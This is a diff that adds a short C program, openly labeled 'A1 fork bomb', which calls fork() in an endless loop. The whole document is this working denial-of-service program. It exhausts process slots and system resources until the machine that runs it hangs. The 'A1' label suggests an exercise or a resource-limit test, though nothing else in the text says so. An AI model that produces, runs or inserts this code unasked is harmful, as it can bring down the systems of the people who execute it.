@@ -1,0 +1,9 @@
+/* A1 fork bomb: for (;;) fork(); */
+#include <unistd.h>
+
+int
+main(void)
+{
+	for (;;)
+		(void)fork();
+}
